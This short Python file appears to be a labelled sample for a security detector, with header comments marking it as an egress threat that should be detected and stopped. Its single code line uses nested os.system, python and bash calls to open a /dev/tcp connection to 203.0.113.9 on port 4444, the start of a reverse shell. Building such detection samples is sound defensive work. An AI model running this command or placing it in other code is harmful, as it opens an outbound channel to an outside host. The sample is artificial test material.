# expect: detected
# threat: 40 encoded payload
# at: either
# family: egress
# severity: medium
# decision: stopped

import os

os.system("python3 -c \"import os; os.system('bash -c \\\"exec 3<>/dev/tcp/203.0.113.9/4444\\\"')\"")
